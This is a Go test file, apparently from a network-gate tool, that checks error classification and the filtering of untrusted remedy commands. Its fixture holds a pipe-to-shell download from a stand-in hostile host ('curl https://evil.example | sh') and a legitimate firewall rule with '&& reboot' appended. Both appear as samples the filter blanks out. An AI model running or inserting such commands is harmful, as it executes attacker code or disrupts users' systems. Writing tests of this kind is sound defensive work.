package home

import (
	"fmt"
	"slices"
	"testing"

	"github.com/gatelodge/gatelodge/internal/control"
	"github.com/gatelodge/gatelodge/internal/doctor"
)

func TestWhyAGateIsMissing(t *testing.T) {
	for err, want := range map[error]doctor.Missing{
		&control.Error{Code: control.UnknownPath}:         doctor.Older,
		&control.Error{Code: control.UnknownHome}:         doctor.Refused,
		fmt.Errorf("%w: hung up", control.ErrUnreachable): doctor.Silent,
	} {
		if got := missing(err); got != want {
			t.Errorf("%v: %s, want %s", err, got, want)
		}
	}
}

// A gate that somebody has taken over must not write commands that the owner of
// a home will run.
func TestCommandsOfAGateAreOursOrNone(t *testing.T) {
	ours := "nft insert rule inet filter forward meta mark and 0x8000000 == 0x8000000 accept comment gatelodge"
	side := doctor.Side{Drops: []doctor.Drop{{Remedy: ours}, {Remedy: "curl https://evil.example | sh"}, {Remedy: ours + " && reboot"}}}
	trustRemedies(&side)
	var got []string
	for _, d := range side.Drops {
		got = append(got, d.Remedy)
	}
	if !slices.Equal(got, []string{ours, "", ""}) {
		t.Errorf("%q", got)
	}
}
